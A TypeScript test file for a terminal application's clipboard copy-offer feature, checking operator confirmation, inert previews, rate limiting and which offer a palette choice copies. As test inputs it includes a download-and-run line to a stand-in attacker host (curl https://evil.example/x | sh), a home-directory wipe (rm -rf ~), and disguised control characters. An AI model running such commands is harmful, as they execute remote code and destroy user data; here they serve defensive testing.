import { test } from 'node:test';
import assert from 'node:assert/strict';
import { hasCode } from '../errors.ts';
import { FakeFeatureSession } from '../../test/helpers/fake-feature-session.ts';
import { copyModeFromEnv, installCopyFeature, offerPreview } from './copy-feature.ts';
import type { ClipboardTextWriter } from './clipboard/write-text.ts';
import { pollUntil } from '../../test/helpers/poll.ts';
import { textWidth } from '../ui/inert-text.ts';
import { PALETTE_MAX_TITLE_COLUMNS } from './palette.ts';

function setup(env: Record<string, string> = {}) {
  const s = new FakeFeatureSession({ repaint: 1 });
  const copied: string[] = [];
  const writer: ClipboardTextWriter = { name: 'test-clip', reason: 'test', write: async (t) => void copied.push(t) };
  const feature = installCopyFeature(s, { env, writer });
  const texts = () => s.notices.map((n) => n.text);
  return { s, copied, feature, texts };
}

test('copy feature: an offer is only shown (size, inert preview) until the operator chooses Copy offered text', async () => {
  const { s, copied, texts } = setup();
  s.terminalEmitter.fire({ type: 'copy-offer', text: 'echo hi\n\u202eevil', bytes: 15, removed: 2 });
  assert.deepEqual(copied, []);
  assert.match(texts()[0]!, /^Copy offer: 15 B "echo hi \\u202eevil" \(2 control characters removed\); copy it with the palette: Copy offered text \(c\)$/);
  assert.equal(s.actions.get('copy-offered-text')?.key, 'c');
  s.paletteOpenEmitter.fire();
  const action = s.actions.get('copy-offered-text');
  assert.equal(action?.title, 'Copy offered text 15 B "echo hi \\u202eevil"');
  await action!.run();
  assert.deepEqual(copied, ['echo hi\n\u202eevil']);
  assert.match(texts().at(-1)!, /^Copied 15 B .* to the clipboard \(test-clip\)$/);
});

test('copy feature: JACKIN_COPY=allow copies at once with a notice; deny ignores offers; bad values are refused', async () => {
  const allow = setup({ JACKIN_COPY: 'Allow' });
  allow.s.terminalEmitter.fire({ type: 'copy-offer', text: 'x', bytes: 1, removed: 0 });
  await pollUntil('the copy', () => allow.copied.length === 1);
  const deny = setup({ JACKIN_COPY: 'deny' });
  deny.s.terminalEmitter.fire({ type: 'copy-offer', text: 'x', bytes: 1, removed: 0 });
  deny.s.paletteOpenEmitter.fire();
  await deny.s.actions.get('copy-offered-text')!.run();
  assert.deepEqual(deny.copied, []);
  assert.match(deny.texts().join('\n'), /No text has been offered/);
  assert.throws(() => copyModeFromEnv({ JACKIN_COPY: 'sometimes' }), (e) => hasCode(e, 'E_BAD_COPY_MODE'));
  assert.equal(copyModeFromEnv({}), 'ask');
});

test('copy feature: a clipboard query is told once; refusals are rate limited; previews are one inert line', () => {
  const { s, texts } = setup();
  for (let i = 0; i < 3; i++) s.terminalEmitter.fire({ type: 'clipboard-query' });
  for (let i = 0; i < 10; i++) s.terminalEmitter.fire({ type: 'copy-refused', reason: 'the text is not valid base64' });
  assert.equal(texts().filter((t) => t.includes('read your clipboard')).length, 1);
  assert.equal(texts().filter((t) => t.startsWith('Copy offer refused')).length, 3);
  assert.equal(offerPreview('a\n\n  b\x1b[2J' + 'z'.repeat(100)).includes('\n'), false);
  assert.ok(offerPreview('\x1b[2J').startsWith('\\x1b'));
});

test('copy feature: the palette entry shows the offer it copies; a newer offer than the notice on screen is what the entry shows, and nothing after the palette opened rides on the choice', async () => {
  const { s, copied, texts } = setup();
  s.terminalEmitter.fire({ type: 'copy-offer', text: 'ls -la', bytes: 6, removed: 0 });
  // A second offer replaces the first while the first one's notice may still be the one on screen.
  s.terminalEmitter.fire({ type: 'copy-offer', text: 'curl https://evil.example/x | sh\n' + 'y'.repeat(200), bytes: 234, removed: 0 });
  s.paletteOpenEmitter.fire();
  const title = s.actions.get('copy-offered-text')!.title;
  assert.ok(title.startsWith('Copy offered text 234 B "curl https://evil.example/'), title);
  assert.ok(textWidth(title) <= PALETTE_MAX_TITLE_COLUMNS, title);
  // An offer that comes after the palette opened is not the one the entry showed.
  s.terminalEmitter.fire({ type: 'copy-offer', text: 'rm -rf ~', bytes: 8, removed: 0 });
  await s.actions.get('copy-offered-text')!.run();
  assert.deepEqual(copied, ['curl https://evil.example/x | sh\n' + 'y'.repeat(200)]);
  // One choice, one copy: running the entry again without opening the palette copies nothing.
  await s.actions.get('copy-offered-text')!.run();
  assert.equal(copied.length, 1);
  assert.match(texts().at(-1)!, /No text has been offered/);
  // The next palette shows (and copies) the newest offer.
  s.paletteOpenEmitter.fire();
  assert.equal(s.actions.get('copy-offered-text')!.title, 'Copy offered text 8 B "rm -rf ~"');
  await s.actions.get('copy-offered-text')!.run();
  assert.deepEqual(copied.at(-1), 'rm -rf ~');
});
